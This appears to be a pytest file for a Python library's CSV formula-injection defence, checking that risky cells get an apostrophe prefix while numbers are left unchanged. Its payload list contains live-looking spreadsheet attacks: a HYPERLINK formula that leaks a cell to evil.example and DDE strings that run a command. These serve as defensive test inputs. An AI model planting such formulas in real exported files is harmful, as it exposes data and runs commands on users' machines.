"""CSV formula injection: trigger cells get a leading apostrophe, numbers never change."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from bordin.interop import neutralise_formulas, read_scores_csv, write_scores_csv
from bordin.interop.spreadsheet_safety import neutralise_cell

# OWASP's examples and the usual variants of each trigger character.
PAYLOADS = [
    '=HYPERLINK("https://evil.example?leak="&A1,"open")',
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
    "=",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_trigger_cell_is_prefixed_with_an_apostrophe(payload: str) -> None:
    assert neutralise_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["-1", "+2.5", "-3e-2", "-.5", "c-12", "phq9", "", "a=b"])
def test_plain_numbers_and_ordinary_text_are_kept(value: str) -> None:
    assert neutralise_cell(value) == value


def test_numeric_columns_and_missing_values_are_untouched() -> None:
    frame = pd.DataFrame(
        {
            "client_id": ["=cmd()", "c2", None],
            "value": [-1.0, 2.5, float("nan")],
            "n": [-3, 0, 4],
        }
    )
    out = neutralise_formulas(frame)
    assert out["client_id"].tolist()[:2] == ["'=cmd()", "c2"] and out["client_id"].isna()[2]
    pd.testing.assert_series_equal(out["value"], frame["value"])
    pd.testing.assert_series_equal(out["n"], frame["n"])
    assert frame["client_id"].iloc[0] == "=cmd()"  # the input frame is not changed


def test_the_cli_scores_file_is_neutralised(tmp_path) -> None:  # type: ignore[no-untyped-def]
    frame = pd.DataFrame(
        {
            "client_id": ["@SUM(1+1)", "c2"],
            "therapist_id": ["t1", "-x"],
            "session": [1, 2],
            "phq9_total": [-0.0, 12.0],
        }
    )
    path = tmp_path / "scores.csv"
    write_scores_csv(frame, path)
    text = path.read_text(encoding="utf-8")
    assert "\n'@SUM(1+1),t1,1,-0.0\n" in text and ",'-x,2,12.0" in text
    cells = pd.read_csv(io.StringIO(text), dtype=str)
    assert not any(str(c).startswith(("=", "+", "-", "@")) for c in cells["client_id"])
    assert read_scores_csv(path)["phq9_total"].tolist() == [0.0, 12.0]


def test_a_carriage_return_inside_a_cell_is_quoted() -> None:
    from bordin.interop import formula_safe_csv

    frame = pd.DataFrame({"code": ["a\r=1+1", "b"], "value": [1.5, -2.0]})
    text = formula_safe_csv(frame)
    assert text == '"code","value"\n"a\r=1+1",1.5\n"b",-2.0\n'
    plain = pd.DataFrame({"code": ["a", "-b"], "value": [1.5, -2.0]})
    assert formula_safe_csv(plain) == "code,value\na,1.5\n'-b,-2.0\n"
